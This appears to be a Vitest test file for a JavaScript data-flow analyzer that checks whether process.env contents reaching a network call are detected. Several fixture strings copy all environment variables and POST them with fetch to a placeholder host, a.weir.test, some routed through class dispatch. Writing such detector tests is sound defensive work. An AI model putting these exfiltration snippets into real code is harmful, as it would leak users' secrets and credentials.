import { describe, expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

function sent(code: string): number {
  return analyzeJs(code).flow.flows.reduce(
    (all, { sink, labels }) => (sink === 'network' ? all | labels : all),
    0,
  );
}

const SEND = "fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(found) })";

describe('what a function puts into what it is given', () => {
  test('is there when it is done', () => {
    const code = `function fill(to, from) { for (const key of Object.keys(from)) to[key] = from[key]; }
      const found = {}; fill(found, process.env); ${SEND};`;

    expect(sent(code) & LABEL.envAll).toBe(LABEL.envAll);
  });

  test('is not followed where many call it: each would have what the others give', () => {
    const code = `function fill(to, from) { for (const key of Object.keys(from)) to[key] = from[key]; }
      const found = {}; fill(found, {}); fill({}, process.env); fill({}, {}); fill({}, {}); ${SEND};`;

    expect(sent(code) & LABEL.envAll).toBe(0);
  });
});

describe('one of several classes that is made', () => {
  const CLASSES = `class Quiet { constructor(all) { this.all = all; } tell(x) {} }
    class Loud extends Quiet { tell(x) { fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(x ?? this.all) }); } }`;

  test.each([
    ['by a choice', `const one = (quiet) => new (quiet ? Quiet : Loud)(); one(false).tell(process.env);`],
    [
      'by a table',
      `const kinds = { a: Quiet, b: Loud }; const one = (kind) => new kinds[kind](); one(exports.kind).tell(process.env);`,
    ],
    ['and is given something when it is made', `new (quiet ? Quiet : Loud)(process.env).tell();`],
  ])('%s', (_what, code) => {
    expect(sent(`${CLASSES} ${code}`) & LABEL.envAll).toBe(LABEL.envAll);
  });
});
